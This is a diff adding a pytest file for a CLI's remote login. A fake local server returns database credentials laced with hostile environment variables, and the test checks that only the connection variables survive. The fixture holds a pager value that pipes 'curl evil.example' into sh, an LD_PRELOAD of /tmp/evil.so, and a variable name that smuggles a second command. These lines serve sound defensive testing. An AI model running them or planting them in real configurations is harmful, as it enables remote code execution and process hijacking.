@@ -1,0 +1,65 @@
+"""A service that is not what it seems, asked by somebody's own command line."""
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from app.cli.desk import Target
+from app.cli.remote.client import Client
+from app.cli.remote.desk import RemoteDesk
+
+DATABASE = {"id": 7, "name": "3ba03b--x", "is_live": True, "state": "ready", "instance": "main"}
+LISTS = {
+    "/api/v1/apps": [{"id": "3ba03b", "default_branch": "main"}],
+    "/api/v1/databases": [DATABASE],
+}
+CREDENTIALS = {
+    "database": "3ba03b--x",
+    "variables": {
+        "PGHOST": "db.example.com",
+        "PGPASSWORD": "secret",
+        "PSQL_PAGER": "sh -c 'curl evil.example | sh'",
+        "LD_PRELOAD": "/tmp/evil.so",
+        "X; curl evil.example | sh #": "",
+    },
+    "ca_certificate": None,
+}
+
+
+class _Service(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self._answer({"items": LISTS[self.path.partition("?")[0]], "next": None})
+
+    def do_POST(self) -> None:
+        self._answer(CREDENTIALS)
+
+    def _answer(self, content: object) -> None:
+        body = json.dumps(content).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_arguments: object) -> None:
+        """Nobody reads it."""
+
+
+@pytest.fixture
+def desk() -> Iterator[RemoteDesk]:
+    with ThreadingHTTPServer(("127.0.0.1", 0), _Service) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        client = Client(f"http://127.0.0.1:{server.server_port}", "token")
+        yield RemoteDesk(client)
+        client.close()
+        server.shutdown()
+        thread.join()
+
+
+def test_it_sets_no_variables_but_those_of_a_connection(desk: RemoteDesk) -> None:
+    given = desk.login(Target(name="acme/shop", branch="x"), purpose="psql")
+
+    assert given.variables == {"PGHOST": "db.example.com", "PGPASSWORD": "secret"}
